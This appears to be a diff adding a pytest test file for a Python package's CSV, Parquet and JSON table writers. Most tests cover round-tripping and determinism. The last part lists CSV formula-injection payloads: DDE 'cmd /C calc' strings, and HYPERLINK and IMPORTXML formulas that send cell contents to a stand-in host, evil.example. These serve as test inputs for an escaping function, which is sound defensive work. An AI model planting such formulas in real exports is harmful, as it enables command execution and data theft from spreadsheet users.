@@ -1,0 +1,203 @@
+import csv
+import io
+import json
+import subprocess
+import sys
+
+import numpy as np
+import pytest
+from pyarrow import parquet
+
+from dpqr.io.outputs.answer_tables.table_files import CHUNK, inert, write_table, write_tables
+from dpqr.io.outputs.answer_tables.tidy import Texts, Tidy
+from dpqr.io.outputs.releases.release_files import answer_records, answer_tables, answers_table
+
+
+@pytest.fixture
+def table(release):
+    return answers_table(release)
+
+
+def test_csv_reads_back_as_the_same_rows(table, tmp_path):
+    write_table(table, tmp_path / "a.csv", "csv")
+    with (tmp_path / "a.csv").open(newline="", encoding="utf-8") as file:
+        rows = list(csv.DictReader(file))
+    expected = [{key: "" if value is None else value for key, value in row.items()} for row in table.records()]
+    for row, wanted in zip(rows, expected, strict=True):
+        assert {key: float(value) if isinstance(wanted[key], float) else value for key, value in row.items()} == wanted
+
+
+def test_parquet_keeps_labels_nulls_and_figures(table, tmp_path):
+    write_table(table, tmp_path / "a.parquet", "parquet")
+    assert parquet.read_table(tmp_path / "a.parquet").to_pylist() == table.records()
+
+
+def test_json_is_an_array_of_records_one_a_line(table, release, tmp_path):
+    write_table(table, tmp_path / "a.json", "json")
+    text = (tmp_path / "a.json").read_text(encoding="utf-8")
+    assert json.loads(text) == answer_records(release)
+    assert len(text.splitlines()) == table.rows + 2
+
+
+def test_only_csv_makes_labels_and_names_inert(tmp_path):
+    table = Tidy(3, {"=label": Texts(np.array([0, 1, -1]), ["=1+1", "-1"]), "figure": np.array([-1.0, np.nan, 2.5])})
+    for form in ("csv", "parquet", "json"):
+        write_table(table, tmp_path / f"a.{form}", form)
+    assert (tmp_path / "a.csv").read_text() == '"\'=label","figure"\n"\'=1+1",-1.0\n"-1",\n,2.5\n'
+    assert parquet.read_table(tmp_path / "a.parquet").to_pydict() == {
+        "=label": ["=1+1", "-1", None],
+        "figure": [-1.0, None, 2.5],
+    }
+    assert json.loads((tmp_path / "a.json").read_text())[1] == {"=label": "-1", "figure": None}
+
+
+def test_quotes_line_ends_and_letters_of_any_script_survive(tmp_path):
+    titles = ['a "b", c', "two\nlines", "\u00e9\u4e16", ""]
+    write_table(Tidy(4, {"x,y": Texts(np.arange(4), titles)}), tmp_path / "a.csv", "csv")
+    with (tmp_path / "a.csv").open(newline="", encoding="utf-8") as file:
+        assert list(csv.reader(file)) == [["x,y"], *([title] for title in titles)]
+
+
+def test_figures_read_back_as_the_same_numbers(tmp_path):
+    figures = np.array([0.1, 1e-300, 2.0**60, -1 / 3, 5e22, 1e-5])
+    table = Tidy(6, {"x": figures, "n": np.arange(6)})
+    write_table(table, tmp_path / "a.csv", "csv")
+    with (tmp_path / "a.csv").open(newline="") as file:
+        rows = list(csv.DictReader(file))
+    assert [float(row["x"]) for row in rows] == figures.tolist()
+    assert [row["n"] for row in rows] == list("012345")
+
+
+def test_more_rows_than_are_written_at_a_time(tmp_path):
+    rows = 2 * CHUNK + 1
+    table = Tidy(rows, {"x": np.arange(rows), "t": Texts(np.arange(rows) % 3 - 1, ["a", "b"])})
+    write_table(table, tmp_path / "a.csv", "csv")
+    lines = (tmp_path / "a.csv").read_text().splitlines()
+    assert lines[1:] == [
+        f"{row},{('', chr(34) + 'a' + chr(34), chr(34) + 'b' + chr(34))[row % 3]}" for row in range(rows)
+    ]
+
+
+@pytest.mark.parametrize("form", ["csv", "parquet", "json"])
+def test_equal_tables_give_equal_bytes(form, table, tmp_path):
+    write_table(table, tmp_path / "one", form)
+    write_table(table, tmp_path / "two", form)
+    assert (tmp_path / "one").read_bytes() == (tmp_path / "two").read_bytes()
+
+
+@pytest.mark.parametrize("form", ["csv", "parquet", "json"])
+def test_a_table_in_pieces_reads_back_as_the_table(form, table, release, tmp_path):
+    write_table(table, tmp_path / "whole", form)
+    write_tables(answer_tables(release, 4), tmp_path / "pieces", form)
+    if form == "parquet":
+        read = parquet.ParquetFile(tmp_path / "pieces")
+        assert read.num_row_groups == 4
+        assert read.read().to_pylist() == table.records()
+    else:
+        assert (tmp_path / "pieces").read_bytes() == (tmp_path / "whole").read_bytes()
+
+
+@pytest.mark.parametrize("form", ["csv", "parquet", "json"])
+def test_a_table_without_rows(form, tmp_path):
+    write_table(Tidy(0, {"t": Texts(np.array([], dtype=np.int8), ["a"]), "x": np.array([])}), tmp_path / "a", form)
+    if form == "parquet":
+        assert parquet.read_table(tmp_path / "a").to_pydict() == {"t": [], "x": []}
+    else:
+        text = (tmp_path / "a").read_text()
+        assert text == '"t","x"\n' if form == "csv" else json.loads(text) == []
+
+
+def test_json_refuses_what_is_no_json_number(tmp_path):
+    with pytest.raises(ValueError, match="no JSON number"):
+        write_table(Tidy(1, {"x": np.array([np.inf])}), tmp_path / "a.json", "json")
+
+
+def test_csv_and_json_need_no_arrow(tmp_path):
+    """A job that reads CSV and writes CSV starts sooner and is smaller without."""
+    code = (
+        "import sys; from pathlib import Path; import numpy as np;"
+        "from dpqr.io.outputs.answer_tables.table_files import write_table;"
+        "from dpqr.io.outputs.answer_tables.tidy import Tidy;"
+        "[write_table(Tidy(1, {'x': np.ones(1)}), Path(sys.argv[1], form), form) for form in ('csv', 'json')];"
+        "print('pyarrow' in sys.modules)"
+    )
+    done = subprocess.run([sys.executable, "-c", code, str(tmp_path)], capture_output=True, text=True, check=True)
+    assert done.stdout == "False\n"
+
+
+ATTACKS = (
+    "=1+1",
+    '=1+1";=1+1',
+    "=1+1'\" ;,=1+1",
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!D2",
+    '=HYPERLINK("http://evil.example?x="&A1,"click")',
+    '=IMPORTXML(CONCAT("http://evil.example?",A1),"//a")',
+    '=DDE("cmd";"/C calc";"!A0")',
+    "\uff1d1+1",
+    "\uff0b1+1",
+    "\uff0d1+1",
+    "\uff20SUM(A1)",
+    "\ufe66" + "1",
+    "\ufe62" + "A1",
+    "\ufe63" + "A1",
+    "\ufe6b" + "A1",
+    "\u2212A1",
+)
+"""OWASP's list (CSV injection), and the signs' other forms."""
+BEFORE = (
+    *" \t\n\x0b\x0c\r\x1c\x1d\x1e\x1f\x85\xa0\0\x08\x1b\x7f\x9b",
+    *"\u1680\u2000\u2003\u2009\u200a\u2028\u2029\u202f\u205f\u3000",
+    *"\u200b\u200c\u200d\u200e\u200f\u202a\u202e\u2060\u2066\u2069\u061c\u180e\ufeff\xad\ufffe",
+    *"\u034f\u115f\u3164\uffa0\u2800\ufe0f",
+    "\U000e0020",
+    "  ",
+    "\ufeff \xa0\t",
+    " '",
+)
+"""What a spreadsheet drops, or does not show."""
+
+
+@pytest.mark.parametrize(
+    "text", ["=1+1", "+cmd", "-a", "@SUM(A1)", "\tx", "\rx", "\nx", "-5 <= age", "--1", "\uff1d1", "="]
+)
+def test_what_a_spreadsheet_would_run_gets_an_apostrophe(text):
+    assert inert(text) == "'" + text
+
+
+@pytest.mark.parametrize(
+    "text", ["-1", "+2.5", "-1e-9", "1", ".5", "<= 30", "[-5, 10)", "F", "", "a=b", "'tis", "(null)"]
+)
+def test_numbers_and_harmless_labels_stay(text):
+    assert inert(text) == text
+
+
+def test_labels_stay_distinct_and_can_be_restored():
+    labels = ["=x", "'=x", "''=x", "x", "'x", "-1", "'-1"]
+    written = [inert(label) for label in labels]
+    assert len(set(written)) == len(labels)
+    assert written[:3] == ["'=x", "''=x", "'''=x"]
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_a_formula_is_found_behind_whatever_does_not_show(attack):
+    assert inert(attack) == "'" + attack
+    for before in BEFORE:
+        assert inert(before + attack) == "'" + before + attack
+        assert inert("'" + before + attack) == "''" + before + attack
+
+
+@pytest.mark.parametrize("label", [" F", "\xa0[0, 10)", "a =1", "\ufeffyes", "1-2", "", " ", "(=)", "''"])
+def test_white_space_alone_is_no_formula(label):
+    assert inert(label) == label
+
+
+@pytest.mark.parametrize("attack", [*ATTACKS, *(before + "=1+1" for before in BEFORE)])
+def test_in_a_file_the_cell_is_one_cell_and_no_formula(tmp_path, attack):
+    path = tmp_path / "t.csv"
+    write_table(Tidy(2, {attack: Texts(np.array([0, 1]), [attack, "plain"]), "x": np.array([1, 2])}), path, "csv")
+    with path.open(encoding="utf-8", newline="") as file:
+        rows = list(csv.reader(io.StringIO(file.read(), newline="")))
+    assert rows == [["'" + attack, "x"], ["'" + attack, "1"], ["plain", "2"]]
